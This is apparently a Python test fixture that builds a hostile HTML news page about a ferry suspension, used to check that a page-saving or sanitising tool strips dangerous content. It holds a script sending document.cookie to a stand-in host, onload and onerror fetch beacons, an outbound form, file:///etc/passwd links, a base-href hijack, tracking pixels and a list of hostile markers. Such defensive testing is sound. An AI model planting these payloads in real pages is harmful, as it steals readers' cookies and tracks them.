"""An article page that tries everything a saved page can try: scripts, frames, forms, remote
and local images, tracking pixels, style sheets, refreshes and links to file: and http: URLs."""

from __future__ import annotations

from tests.articles import STORY_PARAGRAPHS

HOSTILE_MARKERS = ("evil.example", "tracker.example", "SCRIPT-INJECTED", "secret-form-value",
                   "/etc/passwd", "fetch(", "javascript:", "onerror")

HOSTILE_PAGE = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Ferry service suspended after hull cracks | Kessel Courier</title>
<meta property="og:site_name" content="Kessel Courier">
<link rel="canonical" href="https://kesselcourier.example/news/ferry">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="icon" href="file:///etc/passwd">
<meta http-equiv="refresh" content="0;url=http://evil.example/redirect">
<style>body {{ background: url(http://evil.example/bg.png) }} p::after {{ content: "evil.example" }}</style>
<script>fetch("http://evil.example/beacon?c=" + document.cookie)</script>
<script src="http://evil.example/tracker.js"></script>
<base href="http://evil.example/">
</head><body onload="fetch('http://evil.example/onload')">
<article>
<h1>Ferry service suspended after hull cracks</h1>
<p>{STORY_PARAGRAPHS[0]} <img src="http://evil.example/photo.jpg" onerror="fetch('http://evil.example/e')"></p>
<img src="https://tracker.example/pixel.gif?id=reader" width="1" height="1" alt="">
<p>{STORY_PARAGRAPHS[1]}</p>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/post" method="post"><input name="q" value="secret-form-value">
<button>Send</button></form>
<p>{STORY_PARAGRAPHS[2]} <a href="file:///etc/passwd">the inspection report</a> and
<a href="http://evil.example/more">more coverage</a>.</p>
<object data="file:///etc/passwd"></object><embed src="http://evil.example/x.swf">
<svg><image href="http://evil.example/svg.png"/><script>fetch("http://evil.example/svg")</script></svg>
<script>document.write("<p>SCRIPT-INJECTED text</p>")</script>
<noscript><img src="http://evil.example/noscript.gif"></noscript>
<video src="http://evil.example/v.mp4" poster="http://evil.example/poster.jpg"></video>
<p style="background-image: url(http://evil.example/inline.png)">{STORY_PARAGRAPHS[3]}</p>
</article></body></html>"""
